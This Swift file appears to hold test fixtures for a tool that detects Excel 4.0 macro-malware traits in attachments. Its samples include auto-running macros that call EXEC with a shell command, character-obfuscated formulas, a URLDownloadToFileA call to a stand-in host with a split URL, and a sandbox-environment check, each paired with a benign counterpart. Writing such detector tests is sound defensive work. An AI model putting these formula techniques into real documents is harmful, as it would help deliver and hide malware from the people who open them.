@testable import AttachmentInspection

extension Specimen {
  private typealias B = BIFFBuilder

  private static func book(
    _ formulas: [[UInt8]] = [], kind: Int = 1, state: Int = 0, auto: UInt8? = nil
  ) -> Document {
    Document(BIFFBuilder(kind: kind, state: state, builtInName: auto, formulas: formulas).workbook())
  }

  /// A macrosheet as a SYLK file: cells of column one, from the top; `Auto_open` starts at the first.
  static func link(_ cells: [String], auto: Bool = true) -> Document {
    var text = "ID;P\r\nO;E\r\n"
    if auto { text += "NN;NAuto_open;ER1C1\r\n" }
    for (row, cell) in cells.enumerated() { text += "C;X1;Y\(row + 1);E\(cell)\r\n" }
    return Document(text + "E\r\n")
  }

  private static let exec = B.text("cmd /c start x") + B.call(110, 1)

  static let sheets: [Specimen] = [
    Specimen(.xlmMacrosheet, book(), not: book(kind: 0)),
    Specimen(.xlmHiddenMacrosheet, book(state: 2), not: book(state: 0)),
    Specimen(.xlmAutoOpen, book(auto: 1), not: book(auto: 6)),
    Specimen(.xlmExecute, book([exec]), not: book([B.text("hello") + [0x42, 1, 118, 0x80]])),
    Specimen(.xlmAutoExecute, link(["EXEC(\"calc\")"]), not: link(["EXEC(\"calc\")"], auto: false)),
    Specimen(
      .xlmObfuscation,
      link((1...4).map { "FORMULA(CHAR(\($0 + 65))&\"x\",R\($0 + 10)C1)" }), not: link(["ALERT(\"a\")"])),
    Specimen(.xlmHiddenAutoOpen, book(state: 1, auto: 1), not: book(state: 0, auto: 1)),
    Specimen(
      .xlmDownload,
      link(["CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"ht\"&\"tp://x.example/a\",\"c\",0,0)"]),
      not: link(["CALL(\"kernel32\",\"GetTickCount\",\"J\")"])),
    Specimen(.xlmEnvironmentCheck, link(["IF(GET.WORKSPACE(42),,CLOSE(FALSE))"]), not: link(["HALT()"])),
  ]
}
